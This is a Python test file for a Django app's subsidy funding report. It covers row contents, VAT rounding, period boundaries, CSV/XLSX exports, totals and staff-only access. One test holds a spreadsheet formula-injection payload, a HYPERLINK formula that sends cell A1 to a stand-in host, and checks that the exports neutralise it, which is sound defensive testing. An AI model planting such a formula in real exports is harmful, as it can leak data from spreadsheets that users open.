"""The funding report: per company and period, what a sector fund asks for a subsidy claim,
as CSV and XLSX, for hub staff only, safe to open in Excel and without any BSN."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation

from companies.funding import report as funding_report
from companies.models import Company
from enrolment.models import Attendance, Certificate, Enrolment
from tests.factories import (
    CompanyFactory,
    CourseFactory,
    EnrolmentFactory,
    MeetingFactory,
    OfferingFactory,
    ProviderFactory,
    UserFactory,
)
from tests.queries import page_queries

pytestmark = pytest.mark.django_db

MARCH = (date(2026, 3, 1), date(2026, 3, 31))


def local(*args) -> datetime:
    return timezone.make_aware(datetime(*args))


def offering_starting(first: datetime, *, meetings: int = 1, **course_fields):
    """An offering whose first meeting starts at ``first``, with weekly meetings after it."""
    course = CourseFactory(**course_fields)
    offering = OfferingFactory(course=course)
    made = []
    for week in range(meetings):
        starts_at = first + timedelta(weeks=week)
        made.append(
            MeetingFactory(
                offering=offering, starts_at=starts_at, ends_at=starts_at + timedelta(hours=8)
            )
        )
    return offering, made


@pytest.fixture
def company():
    return CompanyFactory(name="Kampstaal", slug="kampstaal", sector_fund=Company.Fund.AOM)


@pytest.fixture
def welding(company):
    """Fenna completed four-meeting TIG welding in March (present 3 times, leaving the last one
    after 6.5 of its 8 hours), with certificate."""
    offering, meetings = offering_starting(
        local(2026, 3, 2, 8, 30),
        meetings=4,
        title="TIG-lassen RVS",
        provider=ProviderFactory(name="Firda Emmeloord"),
        study_hours=Decimal("32"),
        price_excl_vat=Decimal("1195.00"),
    )
    learner = UserFactory(first_name="Fenna", last_name="Bakker", email="fenna@kampstaal.nl")
    enrolment = EnrolmentFactory(
        offering=offering,
        learner=learner,
        company=company,
        status=Enrolment.Status.COMPLETED,
        price_excl_vat=Decimal("1195.00"),
        vat_rate=Decimal("21.00"),
    )
    for meeting, hours in zip(meetings, ["8", "8", None, "6.5"], strict=True):
        Attendance.objects.create(
            enrolment=enrolment,
            meeting=meeting,
            state="absent" if hours is None else "present",
            hours=Decimal(hours or "0"),
        )
    Certificate.objects.create(
        enrolment=enrolment,
        number="TH-2026-000042",
        verification_code="code-fenna",
        issued_at=local(2026, 3, 24, 12, 0),
    )
    return enrolment


def rows(company, period=MARCH):
    return funding_report.list_funding_rows(company=company, start=period[0], end=period[1])


def test_row_has_participant_course_dates_hours_attendance_certificate_and_amounts(welding):
    (row,) = rows(welding.company)

    assert row.last_name == "Bakker"
    assert row.first_name == "Fenna"
    assert row.course == "TIG-lassen RVS"
    assert row.provider == "Firda Emmeloord"
    assert (row.start, row.end) == (date(2026, 3, 2), date(2026, 3, 23))
    assert row.study_hours == Decimal("32")
    assert row.attendance == "3/4 (75 %)"
    assert row.hours_attended == Decimal("22.50")
    assert row.status == "afgerond"
    assert row.certificate_number == "TH-2026-000042"
    assert row.price_excl_vat == Decimal("1195.00")
    assert row.vat_rate == Decimal("21.00")
    assert row.vat == Decimal("250.95")
    assert row.price_incl_vat == Decimal("1445.95")
    assert row.fund == "A+O Metalektro"


def test_amounts_come_from_the_enrolment_snapshot_with_vat_rounded_half_up(company):
    offering, _meetings = offering_starting(
        local(2026, 3, 10, 9, 0), price_excl_vat=Decimal("999.00")
    )
    # 9 % of 0.50 is 0.045: half up gives 0.05 (banker's rounding would give 0.04).
    EnrolmentFactory(
        offering=offering,
        company=company,
        price_excl_vat=Decimal("0.50"),
        vat_rate=Decimal("9.00"),
    )

    (row,) = rows(company)

    assert (row.price_excl_vat, row.vat, row.price_incl_vat) == (
        Decimal("0.50"),
        Decimal("0.05"),
        Decimal("0.55"),
    )


def test_row_without_certificate_or_attendance_leaves_them_plain(company):
    offering, _meetings = offering_starting(local(2026, 3, 10, 9, 0), meetings=2)
    EnrolmentFactory(offering=offering, company=company, status=Enrolment.Status.NO_SHOW)

    (row,) = rows(company)

    assert row.certificate_number == ""
    assert row.attendance == "0/2 (0 %)"
    assert row.hours_attended == Decimal("0")
    assert row.status == "niet verschenen"


@pytest.mark.parametrize(
    ("fund", "label"),
    [
        (Company.Fund.AOM, "A+O Metalektro"),
        (Company.Fund.OOM, "OOM"),
        (Company.Fund.OTHER, "ander fonds"),
        (Company.Fund.NONE, "geen"),
    ],
)
def test_fund_label_follows_the_company(fund, label):
    company = CompanyFactory(sector_fund=fund)
    offering, _meetings = offering_starting(local(2026, 3, 10, 9, 0))
    EnrolmentFactory(offering=offering, company=company)

    (row,) = rows(company)

    assert row.fund == label


def test_period_counts_the_first_meeting_in_local_dates(company):
    # 00:30 on 1 March in Emmeloord is still 28 February in UTC: it belongs to March.
    early, _ = offering_starting(local(2026, 3, 1, 0, 30))
    last_day, _ = offering_starting(local(2026, 3, 31, 18, 0))
    # Started in February, continues in March: not in March's report.
    february, _ = offering_starting(local(2026, 2, 23, 9, 0), meetings=3)
    april, _ = offering_starting(local(2026, 4, 1, 9, 0))
    for offering in (early, last_day, february, april):
        EnrolmentFactory(offering=offering, company=company)

    found = {row.start for row in rows(company)}

    assert found == {date(2026, 3, 1), date(2026, 3, 31)}


def test_only_billable_enrolments_of_this_company(welding, company):
    offering = welding.offering
    for status in ["requested", "waitlisted", "cancelled", "rejected"]:
        EnrolmentFactory(
            offering=offering,
            company=company,
            status=status,
            waitlist_position=1 if status == "waitlisted" else None,
        )
    EnrolmentFactory(offering=offering, company=company, status=Enrolment.Status.CONFIRMED)
    EnrolmentFactory(offering=offering, company=CompanyFactory(), status=Enrolment.Status.COMPLETED)
    EnrolmentFactory(offering=offering, company=None, status=Enrolment.Status.COMPLETED)

    statuses = sorted(row.status for row in rows(company))

    assert statuses == ["afgerond", "bevestigd"]


def test_rows_are_read_with_one_query_however_many(company, welding, django_assert_num_queries):
    with django_assert_num_queries(1):
        assert len(rows(company)) == 1

    for _ in range(5):
        offering, meetings = offering_starting(local(2026, 3, 16, 9, 0), meetings=2)
        enrolment = EnrolmentFactory(offering=offering, company=company)
        Attendance.objects.create(
            enrolment=enrolment, meeting=meetings[0], state="present", hours=Decimal("8")
        )

    with django_assert_num_queries(1):
        assert len(rows(company)) == 6


# --- The files ------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_csv_has_headers_and_values(welding):
    table = read_csv(funding_report.to_csv(rows(welding.company)))

    header, row, _totals = table
    assert header == funding_report.headers()
    record = dict(zip(header, row, strict=True))
    assert record["Achternaam"] == "Bakker"
    assert record["Startdatum"] == "2026-03-02"
    assert record["Aanwezigheid"] == "3/4 (75 %)"
    assert record["Aanwezige uren"] == "22,50"
    assert record["Certificaatnummer"] == "TH-2026-000042"
    assert record["Btw"] == "250,95"
    assert record["Prijs incl. btw"] == "1445,95"
    assert record["Sectorfonds"] == "A+O Metalektro"


def test_xlsx_keeps_numbers_and_dates(welding):
    header, row, _totals = read_xlsx(funding_report.to_xlsx(rows(welding.company)))

    record = dict(zip(header, row, strict=True))
    assert record["Aanwezige uren"] == pytest.approx(22.5)
    assert record["Startdatum"].date() == date(2026, 3, 2)
    assert record["Prijs incl. btw"] == pytest.approx(1445.95)
    assert record["Studie-uren"] == 32


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_text_cells_are_neutralised(company, file_format):
    offering, _meetings = offering_starting(local(2026, 3, 10, 9, 0), title="@SUM(A1:A9)")
    learner = UserFactory(first_name=HOSTILE, last_name="-1")
    EnrolmentFactory(offering=offering, company=company, learner=learner)
    report = rows(company)

    if file_format == "csv":
        header, row, _totals = read_csv(funding_report.to_csv(report))
    else:
        header, row, _totals = read_xlsx(funding_report.to_xlsx(report))

    record = dict(zip(header, row, strict=True))
    assert record["Voornaam"] == "'" + HOSTILE
    assert record["Achternaam"] == "'-1"
    assert record["Cursus"] == "'@SUM(A1:A9)"


@pytest.mark.parametrize("language", ["nl", "en"])
def test_no_bsn_anywhere_in_the_headers(welding, language):
    with translation.override(language):
        headers = funding_report.headers()
        csv_header = read_csv(funding_report.to_csv(rows(welding.company)))[0]
        xlsx_header = read_xlsx(funding_report.to_xlsx(rows(welding.company)))[0]

    for header in [*headers, *csv_header, *xlsx_header]:
        assert "bsn" not in header.lower()
        assert "burgerservice" not in header.lower()
        assert "social security" not in header.lower()


# --- The staff page -----------------------------------------------------------------------

URL = "backoffice:funding_report"


def test_staff_sees_the_form_with_this_year_as_default(client, staff_user):
    client.force_login(staff_user)

    response = client.get(reverse(URL))

    assert response.status_code == 200
    year = timezone.localdate().year
    html = response.content.decode()
    assert f'value="{year}-01-01"' in html
    assert f'value="{year}-12-31"' in html
    assert 'for="id_company"' in html
    assert 'name="format" value="xlsx"' in html


@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_staff_downloads_the_report(client, staff_user, welding, file_format, content_type):
    client.force_login(staff_user)

    response = client.get(
        reverse(URL),
        {
            "company": welding.company.pk,
            "start": "2026-03-01",
            "end": "2026-03-31",
            "format": file_format,
        },
    )

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="subsidie-kampstaal-2026-03-01-2026-03-31.{file_format}"'
    )
    assert "no-store" in response["Cache-Control"]
    table = read_csv(response.content) if file_format == "csv" else read_xlsx(response.content)
    header_at = table.index([*funding_report.headers()])
    assert len(table) == header_at + 3  # the header, Fenna, the totals
    assert "Bakker" in table[header_at + 1]


def test_end_before_start_is_refused_next_to_the_field(client, staff_user, company):
    client.force_login(staff_user)

    response = client.get(
        reverse(URL),
        {"company": company.pk, "start": "2026-03-31", "end": "2026-03-01", "format": "csv"},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "De einddatum ligt voor de begindatum." in response.content.decode()


@pytest.mark.parametrize("who", ["anonymous", "learner", "hr"])
def test_funding_report_is_for_staff_only(client, welding, who):
    if who == "learner":
        client.force_login(welding.learner)
    elif who == "hr":
        from companies.models import Membership

        hr = UserFactory()
        Membership.objects.create(user=hr, company=welding.company, role=Membership.Role.HR)
        client.force_login(hr)
    params = {
        "company": welding.company.pk,
        "start": "2026-03-01",
        "end": "2026-03-31",
        "format": "csv",
    }

    response = client.get(reverse(URL), params)

    if who == "anonymous":
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))
    else:
        assert response.status_code == 403


def test_funding_report_refuses_post(client, staff_user):
    client.force_login(staff_user)

    assert client.post(reverse(URL)).status_code == 405


# --- Header, totals, attended hours ---------------------------------------------------------


@pytest.fixture
def march(company, welding):
    """Besides Fenna: Gerrit, who left the two-meeting PLC course after the first (not
    completed), and a cheaper course Hanna is still confirmed for."""
    company.kvk_number = "12345678"
    company.save(update_fields=["kvk_number"])
    offering, meetings = offering_starting(local(2026, 3, 9, 9, 0), meetings=2, title="PLC")
    gerrit = EnrolmentFactory(
        offering=offering,
        learner=UserFactory(first_name="Gerrit", last_name="Mulder"),
        company=company,
        status=Enrolment.Status.NOT_COMPLETED,
        price_excl_vat=Decimal("450.00"),
        vat_rate=Decimal("21.00"),
    )
    Attendance.objects.create(
        enrolment=gerrit, meeting=meetings[0], state="present", hours=Decimal("7.25")
    )
    Attendance.objects.create(enrolment=gerrit, meeting=meetings[1], state="excused")
    later, _ = offering_starting(local(2026, 3, 30, 9, 0), title="VCA")
    EnrolmentFactory(
        offering=later,
        learner=UserFactory(first_name="Hanna", last_name="Zijlstra"),
        company=company,
        price_excl_vat=Decimal("99.99"),
        vat_rate=Decimal("9.00"),
    )
    return company


def header_of(company):
    return funding_report.get_header(
        company=company, start=MARCH[0], end=MARCH[1], today=date(2026, 4, 2)
    )


def test_totals_add_hours_and_amounts_of_the_rows(march):
    report = rows(march)

    totals = funding_report.get_totals(report)

    assert [row.last_name for row in report] == ["Bakker", "Mulder", "Zijlstra"]
    assert [row.hours_attended for row in report] == [
        Decimal("22.50"),
        Decimal("7.25"),
        Decimal("0"),
    ]
    assert totals.participants == 3
    assert totals.hours_attended == Decimal("29.75")
    assert totals.price_excl_vat == Decimal("1744.99")  # 1195 + 450 + 99.99
    assert totals.vat == Decimal("354.45")  # 250.95 + 94.50 + 9.00 (8.9991 rounded)
    assert totals.price_incl_vat == Decimal("2099.44")


def test_csv_starts_with_the_header_and_ends_with_the_totals(march):
    table = read_csv(funding_report.to_csv(rows(march), header=header_of(march)))

    assert table[:7] == [
        ["Subsidieoverzicht"],
        ["Bedrijf", "Kampstaal"],
        ["KvK-nummer", "12345678"],
        ["Sectorfonds", "A+O Metalektro"],
        ["Periode", "2026-03-01", "2026-03-31"],
        ["Gemaakt op", "2026-04-02"],
        [],
    ]
    header = table[7]
    assert header == funding_report.headers()
    assert len(table) == 7 + 1 + 3 + 1
    totals = dict(zip(header, table[-1], strict=True))
    assert totals["Achternaam"] == "Totaal"
    assert totals["Aanwezige uren"] == "29,75"
    assert totals["Prijs excl. btw"] == "1744,99"
    assert totals["Btw"] == "354,45"
    assert totals["Prijs incl. btw"] == "2099,44"
    assert totals["Cursus"] == ""
    gerrit = dict(zip(header, table[9], strict=True))
    assert (gerrit["Status"], gerrit["Aanwezigheid"]) == ("niet afgerond", "1/2 (50 %)")


def test_xlsx_has_the_header_above_and_the_totals_below_as_numbers(march):
    content = funding_report.to_xlsx(rows(march), header=header_of(march))
    table = read_xlsx(content)

    assert table[0][0] == "Subsidieoverzicht"
    assert table[1][:2] == ["Bedrijf", "Kampstaal"]
    assert table[2][:2] == ["KvK-nummer", "12345678"]
    assert table[3][:2] == ["Sectorfonds", "A+O Metalektro"]
    assert [cell.date() for cell in table[4][1:3]] == [date(2026, 3, 1), date(2026, 3, 31)]
    assert table[5][1].date() == date(2026, 4, 2)
    header = table[7]
    assert header == funding_report.headers()
    totals = dict(zip(header, table[-1], strict=True))
    assert totals["Achternaam"] == "Totaal"
    assert totals["Aanwezige uren"] == pytest.approx(29.75)
    assert totals["Prijs incl. btw"] == pytest.approx(2099.44)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A9"
    assert sheet.auto_filter.ref == "A8:R11"  # the table, not the totals
    assert sheet.cell(row=12, column=header.index("Prijs incl. btw") + 1).number_format == (
        '"€" #,##0.00'
    )


def test_files_read_in_english(march):
    with translation.override("en"):
        content = funding_report.to_csv(rows(march), header=header_of(march))
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=","))

    assert table[0] == ["Funding report"]
    assert table[1] == ["Company", "Kampstaal"]
    assert table[5] == ["Made on", "2026-04-02"]
    header = table[7]
    totals = dict(zip(header, table[-1], strict=True))
    assert totals["Hours present"] == "29.75"
    assert totals[header[0]] == "Total"
    gerrit = dict(zip(header, table[9], strict=True))
    assert gerrit["Status"] == "not completed"


def test_staff_sees_the_report_on_screen_with_header_totals_and_downloads(
    client, staff_user, march
):
    client.force_login(staff_user)
    params = {
        "company": march.pk,
        "start": "2026-03-01",
        "end": "2026-03-31",
        "format": "screen",
    }

    response = client.get(reverse(URL), params)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "no-store" in response["Cache-Control"]
    html = response.content.decode()
    assert "12345678" in html
    assert "A+O Metalektro" in html
    assert "1 maart 2026" in html
    assert "Totaal (3 deelnemers)" in html
    assert "29,75" in html
    assert "2.099,44" in html
    assert "niet afgerond" in html
    assert "format=xlsx" in html
    assert "format=csv" in html


def test_the_screen_report_costs_the_same_queries_however_many_rows(client, staff_user, march):
    client.force_login(staff_user)
    url = reverse(URL) + f"?company={march.pk}&start=2026-03-01&end=2026-03-31&format=screen"
    before = page_queries(client, url)
    for _ in range(4):
        offering, _meetings = offering_starting(local(2026, 3, 20, 9, 0))
        EnrolmentFactory(offering=offering, company=march)

    assert page_queries(client, url) == before
